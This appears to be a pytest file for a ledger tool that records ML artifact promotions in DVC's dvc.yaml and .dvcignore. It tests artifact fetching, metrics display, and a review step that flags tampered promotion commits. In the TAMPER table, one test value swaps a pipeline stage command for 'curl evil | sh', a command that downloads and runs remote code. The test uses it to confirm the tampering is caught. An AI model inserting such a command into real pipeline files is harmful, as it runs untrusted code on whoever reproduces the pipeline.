"""`dvc artifacts get` on a ledger repository: each promotion commit declares its artifact in
the root dvc.yaml (`artifacts:`, the newest promotion's entry) and lets DVC see the newest
promoted dir (.dvcignore), so DVC finds any promotion at its GTO tag -- from a clone of origin,
through the DVC remote -- while the promoted dirs before it cost `dvc status` nothing. Review
accepts exactly that change of dvc.yaml and .dvcignore in a promotion commit, and flags any
other."""

from __future__ import annotations

import hashlib
import json

import pytest
import yaml

from conftest import BIN
from test_remote import bare_origin
from test_verify import make_tag, rebind_gto, tag_text


def sha256(path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def review(box):
    proc = box.ledger("review", "--format", "json")
    assert proc.stdout.strip(), proc.stderr
    return proc.returncode, json.loads(proc.stdout)


def promote(box, run: str, pid: str, *args: str) -> None:
    proc = box.ledger("promote", run, "--id", pid, "--reason", "r", *args)
    assert proc.returncode == 0, proc.stderr


def test_dvc_artifacts_get_fetches_any_promotion_from_a_clone_of_origin(repo, tmp_path):
    store = tmp_path / "store"  # an absolute DVC remote: `dvc artifacts get URL` works in a temporary clone
    repo.dvc("remote", "add", "-d", "-f", "store", str(store))
    repo.commit_all("dvc remote: an absolute path")
    origin = bare_origin(repo)
    before = (repo.root / "dvc.yaml").read_text()
    promote(repo, "lead1-news", "b1", "--as", "baseline", "--push")
    promote(repo, "lead2-news", "r1", "--as", "reference", "--push")
    # HEAD declares the newest promotion only: the file grows by one entry, never by history
    head = yaml.safe_load((repo.root / "dvc.yaml").read_text())
    assert list(head["artifacts"]) == ["r1"] and head["artifacts"]["r1"]["meta"] == {"ledger": "promote/reference/r1"}
    assert (repo.root / "dvc.yaml").read_text().startswith(before)  # the user's part, byte for byte
    status = repo.dvc("status", "--json")
    assert json.loads(status.stdout).keys() <= {"envlock"}, status.stdout  # nothing of the promotions
    out = tmp_path / "elsewhere"
    out.mkdir()
    for pid, stage, tag in (("b1", "baseline", "promote/baseline/b1"), ("r1", "silver", "promote/reference/r1")):
        proc = repo.sh(str(BIN / "dvc"), "artifacts", "get", str(origin), pid, "--stage", stage, "-o", f"{pid}.jsonl",
                       cwd=out)
        assert "Downloaded 1 file(s)" in proc.stdout, proc.stdout + proc.stderr
        want = json.loads(tag_text(repo, tag))["dvc"]["predictions.jsonl"]["sha256"]
        assert sha256(out / f"{pid}.jsonl") == want
    rc, rep = review(repo)
    assert rep["red_flags"] == [], rep["red_flags"]


def test_a_gold_reference_and_the_users_own_artifacts(repo):
    """A gold reference lives one directory deeper (its task): .dvcignore lets exactly its dir
    through. The user's own artifacts in dvc.yaml stay as they were."""
    text = (repo.root / "dvc.yaml").read_text()
    mine = "metrics:\n    - stages/iris/scores.json  # ours\n"
    (repo.root / "dvc.yaml").write_text(text + mine + "artifacts:\n  my-model:  # ours\n    path: stages/iris/model.pkl\n"
                                               "    type: model\n")
    repo.commit_all("register my model")
    promote(repo, "lead1-news", "b1", "--as", "baseline")
    promote(repo, "lead2-news", "g1", "--as", "reference", "--quality", "gold")
    after = (repo.root / "dvc.yaml").read_text()
    arts = yaml.safe_load(after)["artifacts"]
    assert arts["my-model"] == {"path": "stages/iris/model.pkl", "type": "model"} and set(arts) == {"my-model", "g1"}
    gold = json.loads(tag_text(repo, "promote/reference/g1"))["path"]
    assert after.startswith(text + mine + f"    - {gold}/metrics.json\n"), after  # the user's lines as they were
    lines = (repo.root / ".dvcignore").read_text().splitlines()
    task_dir = json.loads(tag_text(repo, "promote/reference/g1"))["path"].rsplit("/", 1)[0]
    assert task_dir.startswith("data/eval/references/gold/")
    assert lines[-4:] == [f"!/{task_dir}/", f"/{task_dir}/*", f"!/{task_dir}/g1/", f"!/{task_dir}/g1/**"], lines
    assert not any(ln.startswith("!/data/eval/baselines/") for ln in lines)
    proc = repo.dvc("artifacts", "get", ".", "g1", "--stage", "gold", "-o", "g1.jsonl")
    assert "Downloaded 1 file(s)" in proc.stdout
    proc = repo.dvc("artifacts", "get", ".", "b1", "--stage", "baseline", "-o", "b1.jsonl")
    assert "Downloaded 1 file(s)" in proc.stdout
    assert json.loads(repo.dvc("status", "--json").stdout).keys() <= {"envlock"}


def test_an_older_projects_dvcignore_is_rewritten_by_its_next_promotion(repo):
    path = repo.root / ".dvcignore"
    path.write_text(path.read_text().replace("/data/eval/baselines/*\n", "/data/eval/baselines/\n")
                    .replace("/data/eval/references/*/*\n", "/data/eval/references/\n"))
    repo.commit_all("as ledger init wrote it before")
    promote(repo, "lead1-news", "b1", "--as", "baseline")
    lines = path.read_text().splitlines()
    assert lines[-4:] == ["/data/eval/baselines/*", "/data/eval/references/*/*", "!/data/eval/baselines/b1/",
                          "!/data/eval/baselines/b1/**"], lines
    assert "Downloaded 1 file(s)" in repo.dvc("artifacts", "get", ".", "b1", "--stage", "baseline").stdout


def test_refusals_write_nothing(repo):
    text = (repo.root / "dvc.yaml").read_text()
    (repo.root / "dvc.yaml").write_text(text + "artifacts:\n  b1:\n    path: stages/iris/model.pkl\n")
    repo.commit_all("the user's own artifact b1")
    before = repo.snapshot()
    proc = repo.ledger("promote", "lead1-news", "--as", "baseline", "--id", "b1", "--reason", "r")
    assert proc.returncode == 2 and "id 'b1' is already an artifact in dvc.yaml" in proc.stderr, proc.stderr
    (repo.root / "dvc.yaml").write_text(text + "artifacts: [\n")
    repo.commit_all("a broken dvc.yaml")
    before = repo.snapshot()
    proc = repo.ledger("promote", "lead1-news", "--as", "baseline", "--id", "b2", "--reason", "r")
    assert proc.returncode != 0 and len(proc.stderr.strip().splitlines()) == 1, proc.stderr
    assert repo.snapshot() == before


def test_an_id_gto_cannot_name_declares_nothing(repo):
    before = {n: (repo.root / n).read_bytes() for n in ("dvc.yaml", ".dvcignore")}
    promote(repo, "lead1-news", "v1.2", "--as", "baseline")
    assert {n: (repo.root / n).read_bytes() for n in before} == before


TAMPER = {
    "a stage command changed": ("dvc.yaml", lambda t: t.replace("cmd: ledger stage runs", "cmd: curl evil | sh")),
    "a second artifact declared": ("dvc.yaml", lambda t: t + "  x:\n    path: data/secret\n"),
    "the artifact pointed elsewhere": ("dvc.yaml", lambda t: t.replace("path: data/eval/baselines/b1/", "path: data/")),
    "everything promoted let through": (".dvcignore", lambda t: t + "!/data/eval/baselines/**\n"),
    "the user's data ignored": (".dvcignore", lambda t: t + "/data/eval/datasets/\n"),
}


@pytest.mark.parametrize("shape", list(TAMPER))
def test_a_promotion_commit_that_declares_anything_else_is_a_red_flag(repo, shape):
    """Re-made by hand (same message, re-signed tags) with one more change in dvc.yaml or
    .dvcignore, a promotion commit is flagged: dvc.yaml holds the commands `dvc repro` runs."""
    name, edit = TAMPER[shape]
    repo.git("checkout", "-q", "-b", "pr")
    promote(repo, "lead1-news", "b1", "--as", "baseline")
    rc, clean = review(repo)
    assert rc == 0 and clean["red_flags"] == [], clean["red_flags"]
    original, record = repo.git("rev-parse", "HEAD"), tag_text(repo, "promote/baseline/b1")
    path = repo.root / name
    path.write_text(edit(path.read_text()))
    repo.git("add", name)
    repo.git("commit", "-q", "--amend", "-C", original)
    key = repo.root.parent / "alice.key"
    make_tag(repo, "promote/baseline/b1", repo.git("rev-parse", "HEAD"), record + "\n", key=key)
    rebind_gto(repo, "promote/baseline/b1", key=key)
    rc, rep = review(repo)
    flags = [f for f in rep["red_flags"] if f["kind"] == "promotion-touches-code"]
    assert flags and name in [p["path"] for p in flags[0]["paths"]], rep["red_flags"]


def test_a_quoted_artifacts_key_of_the_user_is_edited_not_duplicated(repo):
    text = (repo.root / "dvc.yaml").read_text()
    (repo.root / "dvc.yaml").write_text(text + '"artifacts":\n  my-model:\n    path: stages/iris/model.pkl\n')
    repo.commit_all("the user's artifacts, key quoted")
    promote(repo, "lead1-news", "b1", "--as", "baseline")
    assert set(yaml.safe_load((repo.root / "dvc.yaml").read_text())["artifacts"]) == {"my-model", "b1"}
    assert json.loads(repo.dvc("status", "--json").stdout).keys() <= {"envlock"}  # DVC reads it: no duplicate key
    assert "Downloaded 1 file(s)" in repo.dvc("artifacts", "get", ".", "b1", "--stage", "baseline").stdout


def test_dvc_metrics_show_the_newest_promotion_and_each_promotion_at_its_tag(repo):
    """The promotion commit also declares its metrics.json as a DVC metric (the newest one only,
    like its artifact): `dvc metrics show` lists it beside the runs', and at every promotion
    tag DVC finds that promotion's metrics (`dvc metrics show --all-tags`, `metrics diff TAG`)."""
    promote(repo, "lead1-news", "b1", "--as", "baseline")
    promote(repo, "lead2-news", "b2", "--as", "baseline")
    metrics = yaml.safe_load((repo.root / "dvc.yaml").read_text())["metrics"]
    assert [m for m in metrics if m.startswith("data/eval/baselines/")] == ["data/eval/baselines/b2/metrics.json"]
    want = {pid: json.loads(tag_text(repo, f"promote/baseline/{pid}"))["metrics"] for pid in ("b1", "b2")}
    shown = json.loads(repo.dvc("metrics", "show", "--json").stdout)
    (ws,) = shown.values()
    assert ws["data"]["data/eval/baselines/b2/metrics.json"]["data"]["metrics"] == want["b2"]
    shown = json.loads(repo.dvc("metrics", "show", "--all-tags", "--json").stdout)
    for pid in ("b1", "b2"):  # DVC names a revision by its tags, comma-joined (the GTO tag is there too)
        (at,) = [v["data"] for k, v in shown.items() if f"promote/baseline/{pid}" in k.split(",")]
        assert at[f"data/eval/baselines/{pid}/metrics.json"]["data"]["metrics"] == want[pid], at.keys()
    diff = json.loads(repo.dvc("metrics", "diff", "promote/baseline/b1", "--json").stdout)
    assert "data/eval/baselines/b1/metrics.json" in diff and "data/eval/baselines/b2/metrics.json" in diff, diff
